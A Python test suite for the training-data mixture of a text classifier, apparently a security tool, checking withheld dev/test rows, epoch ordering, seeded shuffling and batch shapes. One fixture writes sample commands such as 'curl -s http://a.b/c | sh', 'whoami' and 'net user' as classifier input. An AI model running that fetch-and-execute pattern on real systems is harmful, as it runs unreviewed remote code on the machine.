"""The mixture draws every row once an epoch, in the same order every time."""

import shutil
from pathlib import Path

import numpy as np
import pytest
import zstandard

from unmist.errors import InputError
from unmist.text import Tokenizer, normalize
from unmist.train import corpus
from unmist.train.corpus import withheld
from unmist.train.mixture import MAX_TOKENS, Mixture, even, prepare

TASK = "host-category"
LABELS = ["education", "gambling", "news"]


@pytest.fixture(scope="module")
def mixture(mixture_file: Path) -> Mixture:
    return Mixture(mixture_file)


def test_parts_and_questions(mixture: Mixture, data_folder: Path) -> None:
    assert [part.name for part in mixture.parts] == [*LABELS, TASK]
    assert mixture.questions == [
        {"name": "source of hostname", "labels": LABELS},
        {"name": TASK, "labels": LABELS},
    ]
    assert [(part.question, part.first, part.count) for part in mixture.parts] == [
        (0, 0, 3),
        (0, 0, 3),
        (0, 0, 3),
        (1, 3, 3),
    ]
    assert mixture.classes == 6
    held = withheld(data_folder, "hostname")
    sizes = [part.stop - part.start for part in mixture.parts]
    names = [list(corpus.lines(path)) for path in corpus.sources(data_folder, "hostname")]
    names.append([row.text for row in corpus.split(data_folder, TASK, "train")])
    assert sizes == [sum(normalize(n, "hostname") not in held for n in part) for part in names]


def test_rows_by_hand_are_a_part_of_their_own(
    data_folder: Path, tokenizer_file: Path, tmp_path: Path
) -> None:
    out = tmp_path / "mixture.safetensors"
    prepare(data_folder, Tokenizer(tokenizer_file), ["hostname"], [TASK], out, written_times=1)
    task, by_hand = (mixture := Mixture(out)).parts[-2:]
    assert (task.name, by_hand.name) == (TASK, f"{TASK} written")
    assert (task.question, task.first, task.count) == (1, 3, 3)
    assert (by_hand.question, by_hand.first, by_hand.count) == (1, 3, 3)
    assert by_hand.task
    labels = mixture.labels[by_hand.start : by_hand.stop]
    assert len(labels) > 100
    assert set(labels.tolist()) == {3, 4, 5}
    texts = mixture.texts(np.arange(by_hand.start, by_hand.stop), Tokenizer(tokenizer_file))
    assert not set(texts) & withheld(data_folder, "hostname")


def test_rows_of_dev_and_test_are_never_learnt(
    mixture: Mixture, data_folder: Path, tokenizer_file: Path
) -> None:
    tokenizer = Tokenizer(tokenizer_file)
    held = {
        normalize(row.text, "hostname")
        for split in ("dev", "test")
        for row in corpus.split(data_folder, TASK, split)
    }
    assert withheld(data_folder, "hostname") == held
    assert withheld(data_folder, "url") == set()
    starts = mixture.offsets[:-1] + 1  # after the field-kind token
    learnt = {
        tokenizer.decode(mixture.tokens[start:stop].tolist()).decode()
        for start, stop in zip(starts, mixture.offsets[1:], strict=True)
    }
    assert len(learnt) > 900
    assert not learnt & held


def test_rows_are_the_texts(mixture: Mixture, data_folder: Path, tokenizer_file: Path) -> None:
    tokenizer = Tokenizer(tokenizer_file)
    held = withheld(data_folder, "hostname")
    part = mixture.parts[3]
    rows = [
        row
        for row in corpus.split(data_folder, TASK, "train")
        if normalize(row.text, "hostname") not in held
    ]
    for number in range(0, len(rows), 50):
        row = part.start + number
        ids = mixture.tokens[mixture.offsets[row] : mixture.offsets[row + 1]].tolist()
        assert ids == tokenizer.encode(normalize(rows[number].text, "hostname"), "hostname")
        assert mixture.labels[row] == 3 + LABELS.index(rows[number].label)
    for number, part in enumerate(mixture.parts[:3]):
        assert set(mixture.labels[part.start : part.stop]) == {number}


def test_draws_do_not_repeat_inside_an_epoch(mixture: Mixture) -> None:
    counts = [(part.stop - part.start) // 2 for part in mixture.parts]
    seen: list[np.ndarray] = []
    for cursors in ([0] * 4, counts):
        drawn = mixture.draw(counts, cursors, seed=1)
        for part, count, rows in zip(mixture.parts, counts, drawn, strict=True):
            assert len(rows) == count
            assert ((rows >= part.start) & (rows < part.stop)).all()
        seen.append(np.concatenate(drawn))
    everything = np.concatenate(seen)
    assert len(np.unique(everything)) == len(everything)


def test_an_epoch_holds_every_row_and_the_next_is_in_another_order(mixture: Mixture) -> None:
    part = mixture.parts[0]
    size = part.stop - part.start

    def draw(cursor: int, seed: int = 1) -> list[int]:
        drawn = mixture.draw([size, 0, 0, 0], [cursor, 0, 0, 0], seed)
        assert [len(rows) for rows in drawn[1:]] == [0, 0, 0]
        return drawn[0].tolist()

    first, second = draw(0), draw(size)
    assert sorted(first) == sorted(second) == list(range(part.start, part.stop))
    assert first != second
    assert draw(0) == first
    assert draw(0, seed=2) != first
    half = size // 2
    assert draw(half) == first[half:] + second[:half]


def test_batches_have_one_length_and_allowed_labels(mixture: Mixture) -> None:
    drawn = mixture.draw([100] * 4, [0] * 4, seed=1)
    batches = list(mixture.batches(drawn, 256, np.random.default_rng(1)))
    assert sum(len(batch.ids) for batch in batches) == sum(map(len, drawn)) == 400
    for batch in batches:
        assert batch.ids.size <= 256
        assert 1 < batch.ids.shape[1] <= MAX_TOKENS
        assert (batch.ids[:, 1:] >= 16).all()  # real tokens only: nothing is padded
        assert len(set(batch.ids[:, 0])) == 1
        assert ((batch.question == 1) == (batch.label >= 3)).all()
        assert ((batch.label >= 0) & (batch.label < mixture.classes)).all()
    again = list(mixture.batches(drawn, 256, np.random.default_rng(1)))
    for one, other in zip(batches, again, strict=True):
        np.testing.assert_array_equal(one.ids, other.ids)
        np.testing.assert_array_equal(one.label, other.label)


def test_no_data(tmp_path: Path, tokenizer_file: Path) -> None:
    with pytest.raises(InputError, match="no pretrain/hostname"):
        prepare(tmp_path, Tokenizer(tokenizer_file), ["hostname"], [], tmp_path / "m.safetensors")


def test_few_lengths_are_kept_and_both_ends() -> None:
    kept = {length: even(list(range(length))) for length in range(1, 700)}
    assert len({len(row) for row in kept.values()}) <= 32 + 8 + 10
    for length, row in kept.items():
        assert row[0] == 0
        assert row[-1] == length - 1
        assert min(length, MAX_TOKENS) - 16 < len(row) <= min(length, MAX_TOKENS)
        if length <= 32:
            assert len(row) == length


def test_several_fields(data_folder: Path, tokenizer_file: Path, tmp_path: Path) -> None:
    """Each field kind has a question of its own, and its tasks come right after it."""
    shutil.copytree(data_folder, tmp_path / "data")
    for name in ("one", "two"):
        path = tmp_path / f"data/pretrain/command/{name}.txt.zst"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(zstandard.compress(b"whoami\nnet user\ncurl -s http://a.b/c | sh\n" * 9))
    tokenizer, output = Tokenizer(tokenizer_file), tmp_path / "m.safetensors"
    prepare(tmp_path / "data", tokenizer, ["command", "hostname"], [TASK], output)
    mixture = Mixture(output)
    assert [(p.name, p.field, p.task, p.question, p.first) for p in mixture.parts] == [
        ("one", "command", False, 0, 0),
        ("two", "command", False, 0, 0),
        *((label, "hostname", False, 1, 2) for label in LABELS),
        (TASK, "hostname", True, 2, 5),
    ]
    assert mixture.classes == 8
    opened = {
        part.name: set(mixture.tokens[mixture.offsets[part.start : part.stop]].tolist())
        for part in mixture.parts
    }
    assert opened["one"] == {tokenizer.field_id("command")}
    assert opened[TASK] == {tokenizer.field_id("hostname")}
    assert set(mixture.labels[mixture.parts[1].start : mixture.parts[1].stop].tolist()) == {1}
